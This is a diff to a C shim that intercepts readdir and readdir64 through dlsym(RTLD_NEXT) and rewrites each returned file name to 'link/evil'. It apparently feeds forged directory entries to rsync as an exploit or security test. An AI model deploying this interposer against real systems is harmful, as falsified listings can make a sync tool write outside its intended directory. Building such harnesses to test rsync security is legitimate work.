@@ -13,22 +13,16 @@ static void forge(char *name) {
 		memcpy(name, "link/evil", 9);
 }
 
-struct dirent *readdir(DIR *folder) {
-	static struct dirent *(*next)(DIR *);
-	if (!next)
-		next = (struct dirent * (*)(DIR *)) dlsym(RTLD_NEXT, "readdir");
-	struct dirent *entry = next(folder);
-	if (entry)
-		forge(entry->d_name);
-	return entry;
-}
-
-struct dirent64 *readdir64(DIR *folder) {
-	static struct dirent64 *(*next)(DIR *);
-	if (!next)
-		next = (struct dirent64 * (*)(DIR *)) dlsym(RTLD_NEXT, "readdir64");
-	struct dirent64 *entry = next(folder);
-	if (entry)
-		forge(entry->d_name);
-	return entry;
-}
+/* Whichever of the two rsync was built with. */
+#define FORGES(function, entries)                                              \
+	struct entries *function(DIR *folder) {                                    \
+		static struct entries *(*next)(DIR *);                                 \
+		if (!next)                                                             \
+			next = (struct entries * (*)(DIR *)) dlsym(RTLD_NEXT, #function);  \
+		struct entries *entry = next(folder);                                  \
+		if (entry)                                                             \
+			forge(entry->d_name);                                              \
+		return entry;                                                          \
+	}
+FORGES(readdir, dirent)
+FORGES(readdir64, dirent64)
